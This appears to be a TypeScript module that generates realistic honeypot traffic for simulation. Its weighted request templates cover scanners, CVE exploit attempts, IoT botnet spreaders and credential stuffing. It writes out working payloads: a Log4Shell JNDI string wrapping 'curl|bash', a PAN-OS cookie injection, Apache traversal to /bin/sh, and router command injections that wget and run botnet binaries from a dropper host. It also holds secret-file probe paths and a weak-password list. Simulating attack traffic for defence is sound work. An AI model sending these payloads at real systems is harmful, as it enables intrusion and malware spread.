import type { ClientName } from './http-clients.ts';
import { alnum, int, pick } from './random.ts';
import type { Rng } from './types.ts';

/**
 * Requests honeypots really receive, each with the kind of source that sends it and the clients that
 * send it. Exploit strings are the public ones of the named CVEs and botnets; download hosts are filled
 * in per request (ctx.payload), so the same dropper IPs recur across requests.
 */
export type SourceClass = 'research' | 'abuse' | 'iot' | 'proxy' | 'crawler' | 'human';

export interface RequestContext {
  rng: Rng;
  /** The Host header value the client would send (domain, with :port off the default). */
  host: string;
  zone: string;
  /** Address of the malware download server used by this request. */
  payload: string;
}

export interface BuiltRequest {
  method: string;
  uri: string;
  body?: string;
  contentType?: string;
  /** Added after the client's own headers; a name the client already sends replaces its value. */
  headers?: Array<[string, string]>;
}

export interface RequestTemplate {
  weight: number;
  source: SourceClass;
  clients: readonly ClientName[];
  build(ctx: RequestContext): BuiltRequest;
}

const RECON: readonly ClientName[] = ['zgrab', 'python_requests', 'go_http', 'curl', 'nuclei', 'l9explore', 'chrome'];
const BOT: readonly ClientName[] = ['mirai', 'bare'];
const BROWSER: readonly ClientName[] = ['chrome', 'firefox'];
const FORM = 'application/x-www-form-urlencoded';

const get = (uri: string): BuiltRequest => ({ method: 'GET', uri });
const getOneOf = (uris: readonly string[]) => (c: RequestContext) => get(pick(c.rng, uris));

const USERS = ['admin', 'administrator', 'wpadmin', 'editor', 'test', 'info', 'support', 'webmaster', 'user1', 'manager'];
const PASSWORDS = [
  '123456',
  'admin123',
  'password',
  'Passw0rd!',
  'qwerty123',
  'welcome1',
  'P@ssw0rd',
  'admin@123',
  'letmein',
  'Summer2024!',
  '12345678',
  'changeme',
];

function jndi(c: RequestContext): string {
  return `\${jndi:ldap://${c.payload}:1389/Basic/Command/Base64/${Buffer.from(`(curl -s ${c.payload}:5874/${c.host}||wget -q -O- ${c.payload}:5874/${c.host})|bash`).toString('base64')}}`;
}

export const REQUEST_TEMPLATES: readonly RequestTemplate[] = [
  // Internet-wide research scanners: a plain banner grab of /.
  { weight: 14, source: 'research', clients: ['censys', 'expanse', 'zgrab'], build: () => get('/') },
  { weight: 4, source: 'abuse', clients: ['masscan', 'zgrab', 'go_http'], build: () => get('/') },
  // Secret and config leaks.
  {
    weight: 8,
    source: 'abuse',
    clients: RECON,
    build: getOneOf(['/.env', '/.env.production', '/api/.env', '/laravel/.env', '/app/.env', '/.env.bak', '/backend/.env']),
  },
  {
    weight: 4,
    source: 'abuse',
    clients: RECON,
    build: getOneOf(['/.git/config', '/.git/HEAD', '/.aws/credentials', '/.vscode/sftp.json', '/config.json', '/.DS_Store']),
  },
  {
    weight: 3,
    source: 'abuse',
    clients: RECON,
    build: getOneOf([
      '/wp-login.php',
      '/wp-admin/setup-config.php',
      '/wordpress/wp-admin/setup-config.php',
      '/wp-content/plugins/wp-file-manager/readme.txt',
    ]),
  },
  // CVE-2017-9841: PHPUnit's eval-stdin.php left in vendor/.
  { weight: 2, source: 'abuse', clients: RECON, build: () => get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php') },
  {
    weight: 2,
    source: 'abuse',
    clients: ['python_requests', 'go_http'],
    build: () => ({
      method: 'POST',
      uri: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      body: '<?php echo(md5("Hello PHPUnit"));',
      contentType: FORM,
    }),
  },
  {
    weight: 3,
    source: 'abuse',
    clients: RECON,
    build: getOneOf(['/actuator/env', '/actuator/health', '/actuator/gateway/routes', '/actuator/heapdump']),
  },
  {
    weight: 1,
    source: 'abuse',
    clients: RECON,
    build: getOneOf(['/solr/admin/info/system?wt=json', '/solr/admin/cores?action=STATUS&wt=json']),
  },
  // Exchange (ProxyShell reconnaissance), Fortinet SSL-VPN (CVE-2018-13379), GlobalProtect.
  {
    weight: 2,
    source: 'abuse',
    clients: RECON,
    build: getOneOf([
      '/owa/auth/logon.aspx',
      '/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f',
      '/autodiscover/autodiscover.json?@zdi/Powershell',
      '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application',
    ]),
  },
  {
    weight: 2,
    source: 'abuse',
    clients: RECON,
    build: getOneOf(['/remote/login?lang=en', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession']),
  },
  { weight: 1, source: 'abuse', clients: RECON, build: () => get('/global-protect/login.esp') },
  {
    // CVE-2024-3400: command injection through the SESSID cookie.
    weight: 1,
    source: 'abuse',
    clients: ['python_requests', 'go_http'],
    build: (c) => ({
      method: 'POST',
      uri: '/ssl-vpn/hipreport.esp',
      body: '',
      contentType: FORM,
      headers: [['Cookie', `SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/y\`curl\${IFS}http://${c.payload}/gp.sh|sh\``]],
    }),
  },
  { weight: 1, source: 'abuse', clients: RECON, build: getOneOf(['/api/v1/pods', '/api/v1/namespaces/kube-system/secrets', '/version']) },
  { weight: 1, source: 'abuse', clients: RECON, build: getOneOf(['/server-status', '/server-info']) },
  { weight: 1, source: 'abuse', clients: RECON, build: () => get('/?XDEBUG_SESSION_START=phpstorm') },
  {
    weight: 3,
    source: 'abuse',
    clients: RECON,
    build: getOneOf([
      '/phpmyadmin/index.php',
      '/pma/',
      '/info.php',
      '/phpinfo.php',
      '/console/',
      '/manager/html',
      '/geoserver/web/',
      '/admin/config.php',
      '/login.action',
    ]),
  },
  // CVE-2021-44228: the JNDI lookup in every header a logger might print.
  {
    weight: 2,
    source: 'abuse',
    clients: ['python_requests', 'go_http', 'curl'],
    build: (c) => {
      const payload = jndi(c);
      return {
        method: 'GET',
        uri: pick(c.rng, ['/', `/?x=${encodeURIComponent(payload)}`]),
        headers: [
          ['User-Agent', payload],
          ['X-Api-Version', payload],
        ],
      };
    },
  },
  // CVE-2021-41773 / 42013: Apache path traversal to /bin/sh.
  {
    weight: 1,
    source: 'abuse',
    clients: ['curl', 'python_requests'],
    build: () => ({
      method: 'POST',
      uri: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh',
      body: 'echo Content-Type: text/plain; echo; id',
      contentType: FORM,
    }),
  },
  {
    weight: 1,
    source: 'abuse',
    clients: ['python_requests'],
    build: () => ({
      method: 'POST',
      uri: '/_ignition/execute-solution',
      body: JSON.stringify({
        solution: 'Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution',
        parameters: { variableName: 'x', viewFile: 'php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log' },
      }),
      contentType: 'application/json',
    }),
  },
  // Open-proxy checks: CONNECT and absolute-form requests.
  { weight: 1, source: 'abuse', clients: ['go_http', 'python_requests'], build: () => ({ method: 'CONNECT', uri: 'www.google.com:443' }) },
  {
    weight: 1,
    source: 'abuse',
    clients: ['go_http', 'python_requests'],
    build: getOneOf(['http://azenv.net/', 'http://httpbin.org/ip', 'http://www.baidu.com/']),
  },
  // IoT botnets (Mirai, Mozi, Moobot) spreading through router and DVR bugs.
  { weight: 3, source: 'iot', clients: BOT, build: (c) => get(`/shell?cd+/tmp;rm+-rf+*;wget+${c.payload}/jaws;sh+/tmp/jaws`) },
  {
    weight: 2,
    source: 'iot',
    clients: BOT,
    build: (c) => get(`/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>\`wget+-O-+http://${c.payload}/t;sh+-c+t\`)`),
  },
  {
    weight: 2,
    source: 'iot',
    clients: BOT,
    build: () => ({ method: 'POST', uri: '/boaform/admin/formLogin', body: 'username=admin&psd=Feefifofum', contentType: FORM }),
  },
  {
    weight: 2,
    source: 'iot',
    clients: BOT,
    build: (c) => ({
      method: 'POST',
      uri: '/HNAP1/',
      body: '',
      contentType: 'text/xml; charset="utf-8"',
      headers: [
        [
          'SOAPAction',
          `http://purenetworks.com/HNAP1/\`cd /tmp && rm -rf * && wget http://${c.payload}/bins/mips && chmod 777 mips && ./mips hnap\``,
        ],
      ],
    }),
  },
  { weight: 1, source: 'iot', clients: BOT, build: () => get('/HNAP1/') },
  {
    weight: 2,
    source: 'iot',
    clients: BOT,
    build: (c) => ({
      method: 'POST',
      uri: '/GponForm/diag_Form?images/',
      body: `XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`\`;wget+http://${c.payload}/gpon+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0`,
      contentType: FORM,
    }),
  },
  {
    weight: 2,
    source: 'iot',
    clients: BOT,
    build: (c) => ({
      method: 'POST',
      uri: '/cgi-bin/ViewLog.asp',
      body: `remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;wget+http://${c.payload}/arm7;chmod+777+arm7;./arm7 zyxel;%23&remoteSubmit=Save`,
      contentType: FORM,
    }),
  },
  {
    weight: 2,
    source: 'iot',
    clients: ['bare'],
    build: (c) =>
      get(
        `/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://${c.payload}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1`,
      ),
  },
  { weight: 1, source: 'iot', clients: BOT, build: () => get('/login.rsp') },
  // Credential stuffing through residential proxies, with browser user agents.
  {
    weight: 6,
    source: 'proxy',
    clients: [...BROWSER, 'python_requests'],
    build: (c) => ({
      method: 'POST',
      uri: '/wp-login.php',
      body: `log=${pick(c.rng, USERS)}&pwd=${encodeURIComponent(pick(c.rng, PASSWORDS))}&wp-submit=Log+In&redirect_to=${encodeURIComponent(`https://${c.host}/wp-admin/`)}&testcookie=1`,
      contentType: FORM,
      headers: [['Cookie', 'wordpress_test_cookie=WP%20Cookie%20check']],
    }),
  },
  {
    weight: 3,
    source: 'proxy',
    clients: ['python_requests', 'go_http'],
    build: (c) => ({
      method: 'POST',
      uri: '/xmlrpc.php',
      body:
        `<?xml ` +
        `version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>${pick(c.rng, USERS)}</string></value></param><param><value><string>${pick(c.rng, PASSWORDS)}</string></value></param></params></methodCall>`,
      contentType: 'text/xml',
    }),
  },
  {
    weight: 2,
    source: 'proxy',
    clients: BROWSER,
    build: (c) => ({
      method: 'POST',
      uri: '/owa/auth.owa',
      body: `destination=${encodeURIComponent(`https://${c.host}/owa/`)}&flags=4&forcedownlevel=0&username=${pick(c.rng, USERS)}%40${c.zone}&password=${encodeURIComponent(pick(c.rng, PASSWORDS))}&passwordText=&isUtf8=1`,
      contentType: FORM,
    }),
  },
  {
    weight: 2,
    source: 'proxy',
    clients: BROWSER,
    build: getOneOf(['/wp-login.php', '/owa/auth/logon.aspx?replaceCurrent=1&url=%2fowa%2f', '/user/login']),
  },
  // Verified crawlers and the occasional human.
  { weight: 3, source: 'crawler', clients: ['googlebot'], build: getOneOf(['/robots.txt', '/', '/sitemap.xml']) },
  {
    weight: 2,
    source: 'human',
    clients: BROWSER,
    build: (c) => get(pick(c.rng, ['/', '/favicon.ico', `/?utm_source=${alnum(c.rng, int(c.rng, 4, 8))}`])),
  },
];
